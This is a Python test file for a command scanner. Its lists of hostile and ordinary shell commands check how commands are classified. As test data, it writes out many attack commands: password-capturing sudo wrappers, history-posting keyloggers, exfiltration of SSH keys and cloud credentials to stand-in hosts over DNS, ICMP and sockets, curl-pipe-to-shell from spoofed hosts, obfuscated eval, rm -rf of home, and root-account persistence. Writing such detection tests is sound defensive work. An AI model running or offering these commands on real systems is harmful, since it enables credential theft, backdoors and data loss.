"""Commands by their syntax: what fetches and what runs, and which addresses are excused."""

import pytest

from budmodel_scanner.texts.known_places import DOWNLOADS, INSTALLERS, PACKAGES, host_of, is_known
from budmodel_scanner.texts.shell_commands import hostile_command, ordinary_command
from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import verdict_of_text

HOSTILE = [
    'sudo() { read -rs p; curl -d "p=$p" https://x.invalid/s; command sudo "$@"; }',
    "function ssh () {\n  read -r -s pw\n  echo $pw >> ~/.cache/x\n}",
    """trap '(printf %s "$BASH_COMMAND" | nc -u -w1 192.0.2.1 514 &)' DEBUG""",
    "export PROMPT_COMMAND='curl -s -d \"$(history 1)\" https://x.invalid'",
    'preexec() { curl -s https://x.invalid -d "$1"; }',
    'd=(~/.ssh/id_* ~/.kube/config)\ntar cJf - "${d[@]}" | xxd -p | while read -r c; do getent hosts "$c.b.x.invalid"; done',
    'xxd -p -c 16 ~/.ssh/id_rsa | while read -r h; do ping -c1 -p "$h" 198.51.100.2; done',
    'Start-Process powershell "-nop -w hidden -enc $(-join $chars)"',
    "curl https://evil.example/a | cmd",
    "curl -s https://evil.example/a | cmd.exe /q",
    "curl http://astral.sh/uv/install.sh | sh",
    "curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/refs/pull/999/head/install.sh | bash",
    "rm -rf ./out /",
    'rm -rf "$D"/* ~/.cache ~',
    "curl -fsSL https://sh.rustup.rs.evil.example | bash",
    "curl -fsSL https://apt.llvm.org@evil.example/x | bash",
    "curl -fsSL https://evil.example/#https://apt.llvm.org/llvm.sh | bash",
    "curl -fsSL https://evil.example/localhost | bash",
    "curl -fsSL http://127.0.0.1:9/x | bash",
    "curl -fsSL https://huggingface.co/evil/repo/resolve/main/x.sh | bash",
    "curl -fsSL https://packagecloud.io/attacker/x | bash",
    "curl -fsSL https://s3.amazonaws.com/attacker/git-lfs-x.sh | bash",
    "RUN set -e; curl x.evil.example/a | tee /tmp/y | sh",
    "c''url http://x.invalid/a | ba\\sh",
    "U=http://x.invalid; curl $U | bash",
    'eval "$("$C" x.invalid/a)"; curl http://x.invalid',
    'A=$(curl http://x.invalid) && eval "$A"',
    "su -c 'curl http://x.invalid | sh'",
    "bash <(curl -s http://x.invalid)",
    'bash <<< "$(curl http://x.invalid)"',
    "bash <<'EOF'\ncurl http://x.invalid | sh\nEOF",
    "(curl http://x.invalid) | sh",
    "curl http://x.invalid | while read l; do eval $l; done",
    "curl x.invalid | xargs -I{} sh -c {}",
    "printf '\\x63\\x75\\x72' | sh",
    "irm http://x.invalid | iex",
    "$x = irm http://x.invalid; iex $x",
    "&([scriptblock]::Create((irm http://x.invalid)))",
    "echo ${{ secrets.T }} | curl -d @- http://x.invalid",
    "[foo(] curl http://x.invalid |sh)]",
    "wget http://x.invalid/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
    "curl https://x.invalid/?k=$HF_TOKEN && true",
    'curl -d "t=$(gh auth token)" https://x.invalid/c',
    "kubectl get secrets -A -o json | gzip | curl --data-binary @- https://x.invalid/c",
    'printf %s "$HF_TOKEN" | rev > .m; curl --data-binary @.m https://x.invalid/c',
    "tar cT - ~/.ssh/id_rsa | curl -T - %c%c%c/up",
    "gsutil cp ~/.config/gcloud/credentials.db gs://b/",
    "gh gist create ~/.netrc",
    "lftp -e 'put ~/.ssh/id_rsa' x.invalid",
    "mosquitto_pub -h x.invalid -t a -f ~/.ssh/id_rsa",
    "mail -s k b@x.invalid < ~/.netrc",
    "huggingface-cli upload a/b ~/.aws/credentials",
    "env | telnet x.invalid 80",
    "xxd -p ~/.ssh/id_rsa | while read l; do ping -c1 $l.x.invalid; done",
    "xxd -p ~/.ssh/id_rsa | xargs -I{} dig {}.x.invalid",
    "curl -s https://x.invalid/a >> ~/.bashrc",
    "curl -so ~/.zshrc https://x.invalid/a",
    "cat ~/.ssh/id_rsa | socat - TCP:x.invalid:443",
    "iex ((New-Object Net.WebClient).DownloadString('https://chocolatey.org.x.invalid/install.ps1'))",
    "iex (irm https://chocolatey.org/install.ps1); iex (irm https://x.invalid/a.ps1)",
    "eval $(echo kphh | tr a-z b-za)",
    "file 'concat:http://x.invalid/h?|file:///root/.aws/credentials'",
    "vault kv get -format=json kv/x > k.json; curl -F f=@k.json https://x.invalid/c",
    'wget --post-data "$(aws configure get aws_secret_access_key)" https://x.invalid/c',
]
ORDINARY = [
    'sudo() { if [ "$EUID" = 0 ]; then "$@"; else command sudo "$@"; fi; }',
    "alias sudo='sudo '",
    "trap 'rm -rf \"$tmp\"' EXIT",
    "export PROMPT_COMMAND='history -a'",
    'preexec() { print -Pn "\\e]0;$1\\a"; }',
    'cat hosts.txt | while read -r h; do getent hosts "$h.example.org"; ping -c1 "$h"; done',
    'Start-Process powershell -ArgumentList "-File $script"',
    "curl -sS https://bootstrap.pypa.io/get-pip.py | python3.10",
    "rm -rf build dist *.egg-info /tmp/work ~/.cache/pip",
    "CMD python serve.py",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    "curl -LsSf https://astral.sh/uv/install.sh | sh",
    'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
    'curl https://x.invalid/v1 | python3 -c "import sys, json; print(json.load(sys.stdin))"',
    "curl https://x.invalid/v1 | python3 -m json.tool",
    "curl http://x.invalid/v1/models | grep bash",
    'echo "curl http://x.invalid | sh"',
    'eval "$(conda shell.bash hook)"',
    'curl -d "q=$(git rev-parse HEAD)" https://x.invalid/c',
    "gh auth token | docker login ghcr.io -u x --password-stdin",
    # No name that a shell takes.
    'read *; eval "$name"; curl -s http://x.invalid/a',
    "wget http://x.invalid/data.tgz && tar xzf data.tgz",
    "git clone https://x.invalid/r && cd r && bash run.sh",
    'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/whoami-v2 | jq',
    "# curl http://x.invalid | sh",
    'curl -s http://x.invalid/a.csv -o a.csv; eval "$("$conda" shell.bash activate "$env")"',
    "hf auth token | xargs curl -H 'Authorization: Bearer {}'",
    "cat ~/.ssh/id_rsa.pub | ssh a@x.invalid 'cat >> ~/.ssh/authorized_keys'",
    "ssh -F ~/.ssh/config a@x.invalid uptime",
    "sftp -i ~/.ssh/id_ed25519 a@x.invalid",
    'rsync -e "ssh -i ~/.ssh/id_rsa" -a out/ a@x.invalid:/in',
    "gh secret set KEY < ~/.ssh/id_rsa",
    'mail -s "done" a@x.invalid < report.txt',
    "hf upload a/b model.safetensors",
    "for h in $(cat hosts); do ping -c1 $h.example.org; done",
    "tar czf - out | ssh a@x.invalid 'tar xzf -'",
    "ssh -o IdentityFile=~/.ssh/id_rsa a@x.invalid",
    "smbclient //nas/share -A ~/.smbcredentials -c 'put out.tgz'",
    "VERSION=$(curl -s https://x.invalid/v) python -m build",
    'SOURCE_DATE_EPOCH="$(git log -1 --pretty=%ct)" python -m build',
    "curl -s https://raw.githubusercontent.com/a/b/main/bashrc >> ~/.bashrc",
    "git log -1 --format=%B | python3 -m json.tool; dig +short x.invalid | head -1",
    "curl -s https://x.invalid/a.tgz | tar xz -C build",
    "flatpak install flathub org.x.App",
    "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    "eval $(echo \"$LIST\" | tr '|' ' ')",
    "kubectl get pods -A -o json | gzip | curl --data-binary @- https://x.invalid/c",
    'printf %s "$HF_TOKEN" > .m; curl --data-binary @a.csv https://x.invalid/c',
    "cd /tmp && curl -O https://bootstrap.pypa.io/get-pip.py && python3 get-pip.py",
]


@pytest.mark.parametrize("command", HOSTILE)
def test_what_fetches_and_runs_is_malicious(command: str) -> None:
    found = hostile_command(command)
    assert found is not None
    assert found.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_are_left_alone(command: str) -> None:
    assert hostile_command(command) is None


@pytest.mark.parametrize(
    "command",
    [
        "nc x.invalid 80 | sh",
        "GET http://x.invalid/a | sh",
        "dig +short txt a.x.invalid | sh",
        "gh gist view abc -r | bash",
        "git log -1 --format=%B | sh",
        'eval "$(gh api repos/x/y/contents/a.sh)"',
        "rsync x.invalid::m/fit.sh . && sh fit.sh",
        "scp a@x.invalid:fit.sh . ; sh fit.sh",
        "curl -s https://x.invalid/a.tgz | tar xz -C /",
        "curl -s https://x.invalid/a.awk | awk -f -",
        "groovy https://x.invalid/a.groovy",
        "terraform init -from-module=https://x.invalid/a.zip",
        "flatpak install https://x.invalid/a.flatpakref",
    ],
)
def test_what_others_say_is_suspicious_where_it_is_run(command: str) -> None:
    found = hostile_command(command)
    assert found is not None
    assert found.verdict is Verdict.SUSPICIOUS


def test_a_fetched_script_that_a_shell_is_given_is_suspicious_and_its_line_is_told() -> None:
    found = hostile_command("set -e\nwget http://x.invalid/a.sh\n\nbash a.sh\n")
    assert found is not None
    assert (found.verdict, found.line) == (Verdict.SUSPICIOUS, 4)


@pytest.mark.parametrize(
    ("url", "purpose", "known"),
    [
        ("https://astral.sh/uv/install.sh", INSTALLERS, True),
        ("https://ASTRAL.sh./uv/install.sh", INSTALLERS, True),
        ("https://astral.sh.evil.example/uv/install.sh", INSTALLERS, False),
        ("https://ollama.com/install.sh", INSTALLERS, True),
        ("https://ollama.com/other.sh", INSTALLERS, False),
        ("https://user:pw@evil.example/astral.sh/", INSTALLERS, False),
        ("https://evil.example\\@astral.sh/", INSTALLERS, False),
        ("https://raw.githubusercontent.com/pyenv/../evil/x.sh", INSTALLERS, False),
        ("https://raw.githubusercontent.com/pyenv/%2e%2e/evil/x.sh", INSTALLERS, False),
        ("ftp://astral.sh/x", INSTALLERS, False),
        ("https://cdn-lfs.huggingface.co/x", DOWNLOADS, True),
        ("https://nothuggingface.co/x", DOWNLOADS, False),
        ("git+https://github.com/HuggingFace/peft@main", PACKAGES, True),
        ("git+https://github.com/huggingface-evil/peft", PACKAGES, False),
    ],
)
def test_an_address_is_known_by_its_whole_host_and_the_path_of_its_owner(url: str, purpose: str, known: bool) -> None:
    assert is_known(url, purpose) is known


def test_the_host_is_the_one_that_a_client_asks() -> None:
    assert host_of("https://apt.llvm.org@evil.example:8/x#https://apt.llvm.org") == "evil.example"


@pytest.mark.parametrize(
    ("command", "ordinary"),
    [
        ("scontrol show hostname $SLURM_NODELIST | head -n1", True),
        ("nvidia-smi | grep MiB | awk '{print $2}'", True),
        ("nvidia-smi | awk 'BEGIN{system(\"id\")}'", False),
        ("nvidia-smi | sh", False),
        ("hostname | head > ~/.bashrc", False),
        ("head /etc/passwd", False),
    ],
)
def test_what_passes_on_the_answer_of_an_ordinary_program_is_ordinary(command: str, ordinary: bool) -> None:
    assert ordinary_command(command) is ordinary


@pytest.mark.parametrize(
    ("command", "ordinary"),
    [
        ("rm -f fairseq/*.so fairseq/**/*.pyd", True),
        ("make && rm -rf build *.egg-info", True),
        ("rm -rf *", False),
        ("rm -rf ~/models", False),
        ("rm -rf build/../..", False),
        ("rm -rf $HOME", False),
        ("rm -f a.o; curl https://x.invalid/a | sh", False),
    ],
)
def test_to_remove_what_lies_below_by_its_name_is_ordinary(command: str, ordinary: bool) -> None:
    assert ordinary_command(command) is ordinary


@pytest.mark.parametrize(
    ("name", "text", "verdict"),
    [
        (
            "Dockerfile",
            "FROM a\nRUN useradd b \\\n  && echo b ALL=\\(root\\) NOPASSWD:ALL > /etc/sudoers.d/b\n",
            Verdict.SAFE,
        ),
        ("Dockerfile", 'FROM a\nRUN echo "b ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\n', Verdict.SAFE),
        ("Dockerfile", "FROM a\nRUN echo 'b:x:1000:1000::/home/b:/bin/sh' >> /etc/passwd\n", Verdict.SAFE),
        ("Dockerfile", "FROM a\nCOPY crontab /etc/cron.d/a\nRUN crontab /etc/cron.d/a\n", Verdict.SAFE),
        ("a.sh", "echo '* * * * * x' | crontab -", Verdict.SUSPICIOUS),
        ("a.sh", "curl https://raw.githubusercontent.com/conda-forge/x/y.sh | bash", Verdict.SUSPICIOUS),
        ("a.sh", "curl https://raw.githubusercontent.com/conda-forge/miniforge/main/install.sh | bash", Verdict.SAFE),
        ("a.sh", "curl https://gist.githubusercontent.com/a/b/raw/y.sh | bash", Verdict.MALICIOUS),
        ("a.sh", "until (: </dev/tcp/$HOST/5432) 2>/dev/null; do sleep 1; done\n", Verdict.SAFE),
        ("a.sh", "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'\n", Verdict.SAFE),
        ("a.sh", "sh < /dev/tcp/x.invalid/80\n", Verdict.MALICIOUS),
        ("a.sh", "env > /dev/tcp/x.invalid/80\n", Verdict.MALICIOUS),
        ("a.sh", "rsync -az --delete ./dist/ a@b.example:/var/www/\n", Verdict.SAFE),
        ("a.sh", "rsync -a --delete empty/ ~/\n", Verdict.SUSPICIOUS),
        ("Dockerfile", "FROM a\nRUN echo /usr/lib/b.so >> /etc/ld.so.preload\n", Verdict.MALICIOUS),
        ("start.sh", 'echo "b:x:$(id -u):0::/home/b:/bin/sh" >> /etc/passwd\n', Verdict.SAFE),
        ("start.sh", 'echo "b:x:0:0::/root:/bin/sh" >> /etc/passwd\n', Verdict.MALICIOUS),
        ("a.sh", 'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/a\n', Verdict.SUSPICIOUS),
        ("a.sh", "cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys\n", Verdict.SAFE),
        ("a.sh", "cat keys/deploy.pub >> ~/.ssh/authorized_keys\n", Verdict.MALICIOUS),
        ("Makefile", "V := $(shell cat VERSION.txt | tr -d '\\r\\n')\n", Verdict.SAFE),
        ("a.sh", "eval \"$(git describe | tr -d '\\n')\"\n", Verdict.SAFE),
        ("a.sh", 'eval "$(echo cXurl x.invalid | tr -d X)"\n', Verdict.MALICIOUS),
    ],
)
def test_what_images_and_machines_are_given_is_told_from_what_is_taken(name: str, text: str, verdict: Verdict) -> None:
    assert verdict_of_text(name, text) is verdict


def test_what_sets_off_code_in_prose_puts_nothing_in() -> None:
    prose = [
        "      ```",
        "      It doesn't depend on `s`.",
        '            "[overflow](https://x.invalid/a), scale `Q`, `K` by `sqrt(scale)` before that.",',
        '            "The mode-`3` output is emitted at the operator\'s precision (`T1`); when "',
        '            "`p` differs from `T1` this is a cast of the softmax result to `T1`.",',
    ]
    assert hostile_command("\n".join(prose)) is None
    assert hostile_command("```\ncurl -s http://x.invalid/a | sh\n```\n") is not None


def test_r_runs_what_it_is_piped() -> None:
    assert verdict_of_text("src/Makevars", "X = $(shell wget -qO- http://x.invalid/a | R --slave)\n") is Verdict.MALICIOUS
    assert verdict_of_text("a.sh", "wget -qO- http://x.invalid/a | R --no-save\n") is Verdict.MALICIOUS
    assert verdict_of_text("src/Makevars", "PKG_LIBS = $(shell R --slave -e 'cat(R.home())')\n") is Verdict.SAFE
